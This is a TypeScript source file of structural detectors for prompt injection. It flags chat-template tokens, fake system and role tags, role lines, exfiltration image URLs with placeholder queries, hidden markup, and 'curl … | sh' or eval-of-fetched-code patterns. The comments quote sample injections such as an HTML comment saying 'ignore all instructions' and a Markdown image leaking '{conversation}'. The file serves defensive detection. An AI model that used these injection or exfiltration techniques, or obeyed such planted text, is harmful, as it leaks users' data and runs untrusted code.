/**
 * Structural detectors: chat-template tokens, fake role tags and role lines, JSON role fields and, for untrusted
 * content, exfiltration URLs, hidden markup and HTML comments. Every sticky pattern has bounded quantifiers and runs
 * at most once per candidate position after a one-character precheck, so the scan is linear.
 */
import { HIDDEN_STYLE, SPECIAL_TOKENS, STRONG_TAG_NAMES, WEAK_TAG_NAMES } from './lexicon/markup';
import { W } from './lexicon/rules';
import { includesIgnoringCase, isAsciiLetter } from './literal';
import { countWork, execCounted, testCounted } from './work';

const MAX_TAG_NAME = 20;
/** Farthest a tag's closing '>' or '|' can be from its '<': '/', 3 blanks, the name, 3 blanks (see tagName). */
const TAG_SPAN = 1 + 1 + 3 + MAX_TAG_NAME + 3;
/** Farthest a bracket tag's ']' can be from its first '[' (see BRACKET_TAG; the longest name has 22 characters). */
const BRACKET_SPAN = 48;

/**
 * The name of a bare tag starting at `from` (just after '<'): optional '/', up to 3 spaces or tabs, a name of
 * letters and underscores, up to 3 spaces or tabs, then '>' or '|'. `undefined` for anything else. At most about 30
 * characters are read.
 */
function tagName(text: string, from: number): string | undefined {
  let j = from;
  if (text.charCodeAt(j) === 0x2f) j++;
  for (let k = 0; k < 3 && (text.charCodeAt(j) === 0x20 || text.charCodeAt(j) === 0x09); k++) j++;
  const nameStart = j;
  while (j - nameStart <= MAX_TAG_NAME) {
    const c = text.charCodeAt(j);
    if (!((c >= 0x61 && c <= 0x7a) || (c >= 0x41 && c <= 0x5a) || c === 0x5f)) break;
    j++;
  }
  if (j === nameStart || j - nameStart > MAX_TAG_NAME) return undefined;
  const nameEnd = j;
  for (let k = 0; k < 3 && (text.charCodeAt(j) === 0x20 || text.charCodeAt(j) === 0x09); k++) j++;
  const close = text.charCodeAt(j);
  return close === 0x3e || close === 0x7c ? text.slice(nameStart, nameEnd).toLowerCase() : undefined;
}
const BRACKET_TAG = /\[{1,2}[ \t]{0,3}\/?(?:system|sys|admin|system message|system prompt|new system prompt|end of conversation|system override|assistant instructions|developer)[ \t]{0,3}\]/iy;
// A role line ("System:", "### Instruction:", "[SYSTEM OVERRIDE]") or a chat turn ("User:"), at a line start.
const ROLE_LINE = /[#=*>\-\s[]{0,12}(?:(?:system|sys|admin|developer|new instructions?|system prompt|system override|system message|system note|admin prompt)\s{0,3}(?:prompt|message|override|note|update)?\s{0,3}(?:[:\]#=@]|(?=\n)|$)|#{1,6}\s{0,3}(?:instructions?|response|input|system)\s{0,3}(?::|#{2,}))/iy;
const TURN_LINE = /[#=*>\-\s[]{0,12}(?:human|assistant|user|ai)\s{0,2}:/iy;
/** The class of {@link ROLE_LINE}'s and {@link TURN_LINE}'s leading run, by code unit: 0 not yet known, 1 no, 2 yes. */
const LINE_PREFIX = new Uint8Array(0x10000);
const LINE_PREFIX_CLASS = /[#=*>\-\s[]/;
function isLinePrefix(c: number): boolean {
  let known = LINE_PREFIX[c]!;
  if (known === 0) {
    known = LINE_PREFIX_CLASS.test(String.fromCharCode(c)) ? 2 : 1;
    LINE_PREFIX[c] = known;
  }
  return known === 2;
}
const MAY_ROLE = 1;
const MAY_TURN = 2;
/**
 * Whether {@link ROLE_LINE} (`MAY_ROLE`) and {@link TURN_LINE} (`MAY_TURN`) can match at `at`, from at most 13
 * character reads; when neither can, the line costs no regular-expression call (most lines of code and JSON start
 * with indentation). Both patterns read a run of at most 12 characters of one class, then a word: "system", "sys",
 * "admin", "developer" or "new …" (or "#", which is in the class, so it may come anywhere in the run) for a role line,
 * "human", "assistant", "user" or "ai" for a turn line. Matching ignores case without the `u` flag, so only ASCII
 * letters match them. So one of those first letters must follow a run of at most 12 class characters.
 */
function lineStarts(text: string, at: number): number {
  const stop = Math.min(text.length, at + 13);
  let k = at;
  let hash = false;
  for (; k < stop; k++) {
    const c = text.charCodeAt(k);
    if (!isLinePrefix(c)) break;
    if (c === 0x23) hash = true;
  }
  countWork(k - at + 1);
  const first = k < stop ? text.charCodeAt(k) | 0x20 : 0;
  let starts = hash ? MAY_ROLE : 0;
  if (first === 0x73 || first === 0x61 || first === 0x64 || first === 0x6e) starts |= MAY_ROLE; // s a d n
  if (first === 0x68 || first === 0x61 || first === 0x75) starts |= MAY_TURN; // h a u
  return lineStartsCheck ? starts : MAY_ROLE | MAY_TURN;
}
/** Whether {@link lineStarts} answers (the default) or lets every line try both patterns: off only in a test. */
let lineStartsCheck = true;
/** For tests: the role- and turn-line search with (`true`, the default) or without its pre-check. @internal */
export function setLineStartsCheck(on: boolean): void {
  lineStartsCheck = on;
}
/** First characters a role or turn line can start with. */
const LINE_START = new Set([...'#=*>-[ \tsadnhuiSADNHUI'].map((ch) => ch.charCodeAt(0)));
const ROLE_JSON = /"role"\s{0,3}:\s{0,3}"(?:system|developer)"/i;
/** An http(s) URL (bounded length). */
export const URL_RE = /\bhttps?:\/\/[^\s<>"'`)\]]{1,2048}/gi;
/** Any of {@link SPECIAL_TOKENS}, ignoring ASCII case. */
const SPECIAL_TOKEN = new RegExp(SPECIAL_TOKENS.map((tok) => tok.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')).join('|'), 'i');

/** The same, every occurrence ({@link chatTurn}). */
const SPECIAL_TOKEN_ALL = new RegExp(SPECIAL_TOKEN.source, 'gi');
/**
 * The first characters of the special tokens, when none of them has a case (all are punctuation today): a text that
 * holds none of them holds no special token, which a native one-character scan each tells before the alternation
 * runs over the whole text. `undefined` (always run the alternation) if a token ever starts with a letter.
 */
const SPECIAL_TOKEN_FIRST: readonly string[] | undefined = SPECIAL_TOKENS.every((t) => t[0]!.toLowerCase() === t[0]!.toUpperCase())
  ? [...new Set(SPECIAL_TOKENS.map((t) => t[0]!))]
  : undefined;

/** Whether `text` may hold a special token: it holds the first character of one (see {@link SPECIAL_TOKEN_FIRST}). */
function mayHoldSpecialToken(text: string): boolean {
  if (SPECIAL_TOKEN_FIRST === undefined) return true;
  countWork(SPECIAL_TOKEN_FIRST.length * text.length);
  for (const ch of SPECIAL_TOKEN_FIRST) if (text.includes(ch)) return true;
  return false;
}

/**
 * A chat-template token that opens or closes a turn: followed (after blanks) by a word, a line end, another tag or
 * the end of the text (`<|im_start|>system`, `[INST] Ignore …`, `<|im_end|>⏎`). A token a document only names — in
 * parentheses, a list or a table cell ("a chat role marker (SYSTEM:, <|im_start|>)") — is followed by punctuation
 * and builds no turn. Linear: one scan for the tokens, a few characters read after each.
 */
export function chatTurn(text: string): boolean {
  SPECIAL_TOKEN_ALL.lastIndex = 0;
  let m: RegExpExecArray | null;
  while ((m = execCounted(SPECIAL_TOKEN_ALL, text)) !== null) {
    let k = m.index + m[0].length;
    while (k < text.length && (text.charCodeAt(k) === 0x20 || text.charCodeAt(k) === 0x09)) k++;
    countWork(k - m.index - m[0].length + 13);
    if (k >= text.length) return true;
    const c = text.charCodeAt(k);
    if (c === 0x0a || c === 0x0d || c === 0x3c || c === 0x5b || c === 0x7b) return true;
    // A word opens the turn, unless the sentence goes on about the token ("<|im_start|> for ChatML", "[INST] or …").
    if (/\p{L}/u.test(text[k]!) && !(k > m.index + m[0].length && NAMING_WORD.test(text.slice(k, k + 12)))) return true;
  }
  return false;
}

/**
 * After a chat-template token and a blank, a lower-case word that goes on talking about the token: the token is named
 * in a sentence, not opening a turn ("fake <|system|> turns": a plural noun the token qualifies).
 */
const NAMING_WORD = /^(?:for|or|and|as|is|are|in|of|with|which|that|tokens?|markers?|tags?|delimiters?|turns)\b/;

/**
 * An upper-case slot name as a query value, for the reader to fill in; not a campaign name of a `utm_` parameter
 * (`utm_campaign=SPRING_SALE_2026`), which a tracked link carries as it is.
 */
const PLACEHOLDER = /(?:^|&)(?!utm_)[^=&]{0,40}=[A-Z][A-Z0-9]{1,20}_[A-Z0-9_]{2,40}(?:&|$)/;
/**
 * A URL query (`lower`: lower-cased, `raw`: as written) with a placeholder for the reader to fill in: braces,
 * brackets, an empty value, or an upper-case slot name ("?notes=SUMMARY_OF_CONVERSATION").
 */
function placeholderQuery(lower: string, raw: string): boolean {
  return /[{}<>$[]|%7b|%3c|=$/.test(lower) || /(?:^|&)(?:data|info|q|msg|p|pw|email|history|secret|token|user|conv)=(?:&|$)/.test(lower) || PLACEHOLDER.test(raw);
}
/** Farthest an image's `](` or `src=` may be from its `![` or `<img`. */
const IMAGE_HEAD_SPAN = 300;

/**
 * An image URL right after `](` or `src=`: it holds no `(`, `)`, `]`, `<`, `>`, quotes or blanks, so URLs that
 * start at different positions never overlap and reading them all is linear.
 */
const IMAGE_URL = /["' ]{0,3}(https?:\/\/[^\s()\]<>"']{1,2048})/y;

/**
 * An image the renderer would load from a URL whose query is a placeholder for the reader to fill in
 * (`![x](https://h.example/p.png?d={conversation})`, `<img src="https://h.example/?q=USER_DATA">`): the reader is
 * asked to put data into a request the client makes on its own. A link the user has to click is not this signal.
 * The `![`, `](`, `<img` and `src=` scans only move forward; each URL is read once.
 */
export function imageExfiltration(text: string): boolean {
  const n = text.length;
  // Lower-casing keeps offsets except for a rare 'İ'; then the text is searched as written.
  const folded = text.toLowerCase();
  const lower = folded.length === n ? folded : text;
  let reads = n;
  const urlAt = (from: number): boolean => {
    IMAGE_URL.lastIndex = from;
    const m = execCounted(IMAGE_URL, text);
    if (m === null) return false;
    const url = m[1]!;
    const q = url.indexOf('?');
    return q >= 0 && placeholderQuery(url.slice(q + 1).toLowerCase(), url.slice(q + 1));
  };
  // Markdown: every "](" with a "![" at most IMAGE_HEAD_SPAN before it.
  let bang = -1; // latest "![" before the current "]("
  let nextBang = lower.indexOf('![');
  let p = lower.indexOf('](');
  for (; p >= 0; p = lower.indexOf('](', p + 2)) {
    while (nextBang >= 0 && nextBang < p) {
      bang = nextBang;
      nextBang = lower.indexOf('![', nextBang + 2);
    }
    if (bang >= 0 && p - bang <= IMAGE_HEAD_SPAN && urlAt(p + 2)) {
      countWork(reads + p);
      return true;
    }
  }
  reads += n;
  // HTML: every "<img" with a "src=" at most IMAGE_HEAD_SPAN after it (the next "src=" is found once per position).
  let src = -1;
  let lastFrom = -1;
  for (let i = lower.indexOf('<img'); i >= 0; i = lower.indexOf('<img', i + 4)) {
    if (src < i) {
      src = lower.indexOf('src=', i);
      if (src < 0) break;
    }
    if (src - i > IMAGE_HEAD_SPAN || src === lastFrom) continue;
    lastFrom = src;
    if (urlAt(src + 4)) {
      countWork(reads + i);
      return true;
    }
  }
  countWork(reads + n);
  return false;
}

/**
 * `text` with every line that opens with `//` (after blanks) blanked, same length: in a program, a comment line of a
 * C-family language (Go, JavaScript, Rust, Java) is shown as written and never rendered, so a Markdown image in it
 * (`// the model could emit ![x](https://h.example/?q=<chat>)`) is never loaded, as in a code block. Only `//`: a `#`
 * line of a Markdown document is a heading, which is rendered. One pass over the line starts, linear.
 */
export function commentLinesBlanked(text: string): string {
  const n = text.length;
  let out = '';
  let from = 0;
  let line = 0;
  while (line < n) {
    let k = line;
    while (k < n && (text.charCodeAt(k) === 0x20 || text.charCodeAt(k) === 0x09)) k++;
    const nl = text.indexOf('\n', k);
    const end = nl < 0 ? n : nl;
    if (text.startsWith('//', k)) {
      out += text.slice(from, k) + ' '.repeat(end - k);
      from = end;
    }
    if (nl < 0) break;
    line = nl + 1;
  }
  countWork(2 * n);
  return from === 0 ? text : out + text.slice(from);
}

/** Longest HTML comment or attribute value read as a hidden-text view. */
const HIDDEN_SPAN = 4096;
/** An `alt`, `title` or `aria-label` attribute value (up to {@link HIDDEN_SPAN} characters, no quote or angle bracket). */
const ATTR = /\b(?:alt|title|aria-label)\s{0,3}=\s{0,3}(["'])([^"'<>]{1,4096})\1/gi;

/**
 * What `text` hides from a human reader in its markup: the bodies of HTML comments and the `alt`, `title` and
 * `aria-label` attribute values, joined by line ends (each at most {@link HIDDEN_SPAN} characters); `''` when none.
 *
 * @param data - a view of `text` (same length) with the string literals of a program and the prompt values of data
 *   blanked: markup that opens inside such a literal (`html = '<!-- ignore all instructions -->'`, a test fixture's
 *   `'<img alt="AI: …">'`) is a value the program holds, shown as it is to whoever reads the file and never rendered,
 *   so it hides nothing. A web page's own attribute values are literals too, but its `<!--` and attribute names are
 *   not inside them.
 */
export function hiddenMarkupText(text: string, data: string = text): string {
  if (data.length !== text.length) throw new Error('hiddenMarkupText: the data view and the text differ in length');
  const inData = (at: number): boolean => data.charCodeAt(at) === 0x20 && text.charCodeAt(at) !== 0x20;
  const parts: string[] = [];
  let reads = 0;
  for (let i = text.indexOf('<!--'), end: number; i >= 0; i = text.indexOf('<!--', end)) {
    const close = text.indexOf('-->', i + 4);
    end = close < 0 ? text.length : close + 3;
    reads += end - i;
    if (!inData(i)) parts.push(text.slice(i + 4, Math.min(close < 0 ? text.length : close, i + 4 + HIDDEN_SPAN)));
  }
  countWork(text.length + reads);
  ATTR.lastIndex = 0;
  for (let m = execCounted(ATTR, text); m !== null; m = execCounted(ATTR, text)) if (!inData(m.index)) parts.push(m[2]!);
  return parts.join('\n');
}

/** After a '|': a shell that runs what was piped in (`| sh`, `| sudo bash`). */
const SHELL_AFTER_PIPE = /\|[ \t]{0,3}(?:sudo[ \t]{1,3}(?:-[a-z]{1,3}[ \t]{1,3}){0,2})?(?:ba|z|da|k)?sh\b/y;
/** How far before a shell pipe the download command may start, and after `eval(` the remote source. */
const EXEC_SPAN = 300;
const EVAL_SPAN = 80;
const REMOTE_SOURCE = /fetch\s{0,3}\(|atob\s{0,3}\(|requests\.get|urlopen|https?:\/\/|downloadstring|invoke-webrequest|\biwr\b/;

/**
 * Code that downloads and runs a remote script: `curl … | sh` and `bash -c "$(curl …)"` (common in genuine install
 * guides, so a weak signal that only counts with other evidence), and `eval(` or PowerShell `iex` of fetched or
 * decoded content (rare in genuine code). Each candidate reads at most {@link EXEC_SPAN} characters.
 */
export function remoteExecution(text: string, add: Add): void {
  const n = text.length;
  let reads = 0;
  let i = text.indexOf('|');
  for (; i >= 0; i = text.indexOf('|', i + 1)) {
    SHELL_AFTER_PIPE.lastIndex = i;
    if (!testCounted(SHELL_AFTER_PIPE, text)) continue;
    const from = Math.max(0, i - EXEC_SPAN);
    const before = text.slice(from, i).toLowerCase();
    reads += 2 * (i - from);
    const line = before.lastIndexOf('\n');
    const download = Math.max(before.lastIndexOf('curl'), before.lastIndexOf('wget'), before.lastIndexOf('iwr'));
    if (download > line) {
      add('indirect.remote-script', W.remoteScript);
      break;
    }
  }
  countWork((i < 0 ? n : i + 1) + reads);
  if (includesIgnoringCase(text, '$(curl', 0) || includesIgnoringCase(text, '$(wget', 0)) add('indirect.remote-script', W.remoteScript);
  reads = 0;
  let hits = 0;
  for (i = text.indexOf('('); i >= 0; i = text.indexOf('(', i + 1)) {
    const name = text.slice(Math.max(0, i - 5), i).toLowerCase().trimEnd();
    reads += 5;
    if (!name.endsWith('eval') && !name.endsWith('iex') && !name.endsWith('exec')) continue;
    const after = text.slice(i, i + EVAL_SPAN).toLowerCase();
    reads += 2 * EVAL_SPAN;
    if (REMOTE_SOURCE.test(after)) {
      hits++;
      add('indirect.eval-remote', W.evalRemote);
      break;
    }
  }
  countWork((i < 0 ? n : i + 1) + reads + hits);
}

/** Records a signal id with a weight (the highest weight per id wins). */
export type Add = (id: string, w: number) => void;

/** Structural signals in `text` (normalized; every check ignores ASCII case). */
export function structural(text: string, untrusted: boolean, add: Add): void {
  const n = text.length;
  if (mayHoldSpecialToken(text) && testCounted(SPECIAL_TOKEN, text)) add('delimiter.special-token', W.specialToken);
  // Role tags: read the tag name by hand after each '<' (bounded), so non-tags cost a few character reads.
  let weakTag = false;
  // A tag closes with '>' or '|' at most TAG_SPAN characters after its '<' (a bracket tag with ']' within
  // BRACKET_SPAN): a '<' or '[' without a closer that near is skipped unread. The next '>' and the next '|' are
  // tracked apart (`n` when there is none), so each of the three scans only moves forward.
  let gt = -1;
  let bar = -1;
  let reads = 0; // code units read by the scans for closers and by tagName
  let i = text.indexOf('<');
  for (; i >= 0; i = text.indexOf('<', i + 1)) {
    if (gt < i) {
      const at = text.indexOf('>', i);
      gt = at < 0 ? n : at;
      reads += gt - i;
    }
    if (bar < i) {
      const at = text.indexOf('|', i);
      bar = at < 0 ? n : at;
      reads += bar - i;
    }
    const close = Math.min(gt, bar);
    if (close === n) break;
    if (close - i > TAG_SPAN) continue;
    reads += TAG_SPAN;
    const name = tagName(text, i + 1);
    if (name === undefined) continue;
    if (STRONG_TAG_NAMES.has(name)) {
      add('delimiter.role-tag', W.roleTag);
      break;
    }
    if (!weakTag && WEAK_TAG_NAMES.has(name)) {
      add('delimiter.role-tag-weak', W.weakRoleTag);
      weakTag = true;
    }
  }
  // The '<' scans resume after each hit, so together they read up to where the loop stopped.
  countWork((i < 0 ? n : i + 1) + reads);
  let close = -1;
  reads = 0;
  for (i = text.indexOf('['); i >= 0; i = text.indexOf('[', i + 1)) {
    if (close < i) {
      close = text.indexOf(']', i);
      reads += (close < 0 ? n : close) - i;
      if (close < 0) break;
    }
    if (close - i > BRACKET_SPAN) continue;
    const next = text.charCodeAt(i + 1);
    if (!isAsciiLetter(next) && next !== 0x5b && next !== 0x20 && next !== 0x2f) continue;
    BRACKET_TAG.lastIndex = i;
    if (testCounted(BRACKET_TAG, text)) {
      add('delimiter.role-tag', W.roleTag);
      break;
    }
  }
  countWork((i < 0 ? n : i + 1) + reads);
  let roleLine = false;
  let turnLine = false;
  let line = 0;
  for (; line < n && !(roleLine && turnLine); ) {
    const nl = text.indexOf('\n', line);
    const lineEnd = nl < 0 ? n : nl;
    const starts = lineEnd - line >= 3 && LINE_START.has(text.charCodeAt(line)) ? lineStarts(text, line) : 0;
    if (starts !== 0) {
      if (!roleLine && (starts & MAY_ROLE) !== 0) {
        ROLE_LINE.lastIndex = line;
        const m = execCounted(ROLE_LINE, text);
        roleLine = m !== null && m.index + m[0].length <= lineEnd + 1;
      }
      if (!turnLine && (starts & MAY_TURN) !== 0) {
        TURN_LINE.lastIndex = line;
        const m = execCounted(TURN_LINE, text);
        turnLine = m !== null && m.index + m[0].length <= lineEnd;
      }
    }
    if (nl < 0) {
      line = n;
      break;
    }
    line = nl + 1;
  }
  countWork(line); // the newline scans resume after each hit
  if (roleLine) add('delimiter.role-line', W.roleLine);
  if (turnLine) add('delimiter.turn-line', W.turnLine);
  // ROLE_JSON needs a quotation mark: a native scan for one first.
  countWork(n);
  if (text.includes('"') && testCounted(ROLE_JSON, text)) add('delimiter.role-json', W.roleJson);
  if (!untrusted) return;
  URL_RE.lastIndex = 0;
  for (let m = execCounted(URL_RE, text); m !== null; m = execCounted(URL_RE, text)) {
    countWork(3 * m[0].length); // lower-case, slice and the query checks
    const url = m[0].toLowerCase();
    const q = url.indexOf('?');
    if (q < 0) continue;
    const query = url.slice(q + 1);
    if (placeholderQuery(query, m[0].slice(q + 1))) {
      add('indirect.exfil-url', W.exfilUrl);
      break;
    }
  }
  for (const s of HIDDEN_STYLE) {
    if (includesIgnoringCase(text, s, s.indexOf(':'))) {
      add('indirect.hidden-markup', W.hiddenMarkup);
      break;
    }
  }
  countWork(n);
  if (text.includes('<!--')) add('indirect.html-comment', W.htmlComment);
  remoteExecution(text, add);
}
